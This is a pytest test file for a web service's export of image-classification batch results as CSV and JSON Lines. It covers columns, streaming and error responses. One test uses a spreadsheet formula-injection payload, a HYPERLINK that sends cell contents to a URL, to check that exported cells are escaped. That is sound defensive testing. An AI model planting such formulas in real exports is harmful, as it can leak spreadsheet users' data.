"""A batch's results to take away."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from imagefleet_core.jobs import Failure, JobId, Prediction, Request, Result, new_batch_id
from imagefleet_web.telling.results import PIECE
from web_tier import CHELSEA, MEASURED, Answer, Web, World


def export(web: Web, batch: str, kind: str = "csv", **options: Any) -> Answer:
    return web.get(f"/api/v1/batches/{batch}/results.{kind}", **options)


def rows(answer: Answer) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8"), newline="")))


def objects(answer: Answer) -> list[dict[str, Any]]:
    return [json.loads(line) for line in answer.data.decode("utf-8").splitlines()]


def test_a_table_has_a_row_for_each_image_finished_or_not(web: Web, world: World) -> None:
    # given a label, a failure, an output and one that still waits
    names = ["Kätzchen, 1.jpg", "broken.jpg", "measured.jpg", "waits.jpg"]
    batch = web.upload(*[(name, CHELSEA) for name in names]).json["batch"]
    world.finish(world.take(4)[:3], reply=False)

    answer = export(web, batch)

    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = f"attachment; filename=imagefleet-{batch}.csv"
    assert answer.headers["Content-Disposition"] == disposition
    done, failed, measured, pending = rows(answer)
    assert (done["job"], done["name"]) == (f"{batch}-0001", names[0])
    assert (done["status"], done["label"], done["score"]) == ("done", f"{names[0]} 1", "0.9")
    assert (done["model"], done["worker"], done["output"]) == ("played@1", "played", "")
    assert (failed["status"], failed["error_code"]) == ("failed", "truncated")
    assert failed["error_message"] == "The image ends too early."
    assert json.loads(measured["output"]) == MEASURED
    assert (measured["label"], measured["score"]) == ("", "")
    assert (pending["status"], pending["name"]) == ("pending", "waits.jpg")
    assert (pending["label"], pending["worker"], pending["finished_at"]) == ("", "", "")
    told = web.get(f"/api/v1/batches/{batch}").json["jobs"]
    for name in ("submitted_at", "started_at", "finished_at"):
        assert [row[name] for row in rows(answer)] == [job[name] or "" for job in told]


def test_json_lines_are_the_jobs_as_everywhere(web: Web, world: World) -> None:
    names = ["1.jpg", "broken.jpg", "measured.jpg", "waits.jpg"]
    batch = web.upload(*[(name, CHELSEA) for name in names]).json["batch"]
    world.finish(world.take(4)[:3], reply=False)

    answer = export(web, batch, "jsonl")

    assert answer.headers["Content-Type"] == "application/jsonl; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    assert objects(answer) == web.get(f"/api/v1/batches/{batch}").json["jobs"]


@pytest.mark.parametrize(
    "beginning", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
)
def test_no_cell_is_a_formula(web: Web, world: World, beginning: str) -> None:
    hostile = f'{beginning}HYPERLINK("http://127.0.0.1/?"&A1)'
    now = datetime.now(UTC)
    job = JobId(new_batch_id(), 1)
    top = (Prediction(hostile, 0.5),)
    world.store.put_result(Result(job, hostile, top, None, hostile, hostile, now, now, now))

    (row,) = rows(export(web, job.batch))

    assert row["label"] == row["name"] == row["model"] == row["worker"] == f"'{hostile}"
    assert objects(export(web, job.batch, "jsonl"))[0]["label"] == hostile


def test_no_reason_is_a_formula(web: Web, world: World) -> None:
    now = datetime.now(UTC)
    job = JobId(new_batch_id(), 1)
    error = Failure("@SUM(1)", "=1+1")
    world.store.put_result(Result(job, "a.jpg", (), error, "", "w", now, now, now))

    (row,) = rows(export(web, job.batch))

    assert (row["error_code"], row["error_message"]) == ("'@SUM(1)", "'=1+1")


def test_an_image_of_the_inbox_can_be_taken_away_too(web: Web, world: World) -> None:
    job = JobId(new_batch_id(), 1)
    world.finish([Request(job, "inbox/photo.jpg", "photo.jpg", None, datetime.now(UTC))])

    (row,) = rows(export(web, job.batch))

    assert (row["job"], row["name"], row["label"]) == (str(job), "photo.jpg", "photo.jpg 1")


def test_a_large_batch_is_sent_while_it_is_read(web: Web, world: World) -> None:
    # given more results than are read at once
    batch, now = new_batch_id(), datetime.now(UTC)
    count = 2 * PIECE + 3
    requests = [
        Request(JobId(batch, n), f"{batch}/{n:04}-a.jpg", f"{n}.jpg", None, now)
        for n in range(1, count + 1)
    ]
    world.finish(requests)

    answer = export(web, batch, buffered=False)
    told = answer.iter_encoded()
    next(told)
    first = next(told).decode().splitlines()

    # then the first ones are there before the last ones are read
    assert len(first) == PIECE
    last = f"{batch}/{count:04}.json"
    kept = world.store.results.pop(last)
    world.store.results[last] = kept.replace(b'"worker":"played"', b'"worker":"late"')
    rest = b"".join(told).decode().splitlines()
    assert len(rest) == count - PIECE
    assert ",late," in rest[-1]


def test_a_store_that_falls_silent_in_the_middle_cuts_the_answer_off(
    web: Web, world: World
) -> None:
    batch = web.upload(("1.jpg", CHELSEA)).json["batch"]
    world.finish(world.take(1), reply=False)
    world.store.outage.begin("get_result")

    told = export(web, batch, buffered=False).iter_encoded()

    next(told)
    with pytest.raises(ConnectionAbortedError):
        next(told)


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_what_nobody_uploaded_cannot_be_taken_away(web: Web, world: World, kind: str) -> None:
    unknown = export(web, new_batch_id(), kind)
    assert (unknown.status_code, unknown.json["code"]) == (404, "not_found")
    nonsense = export(web, "1", kind)
    assert (nonsense.status_code, nonsense.json["code"]) == (400, "bad_id")

    world.store.outage.begin()
    silent = export(web, new_batch_id(), kind)
    assert (silent.status_code, silent.json["code"]) == (503, "unavailable")
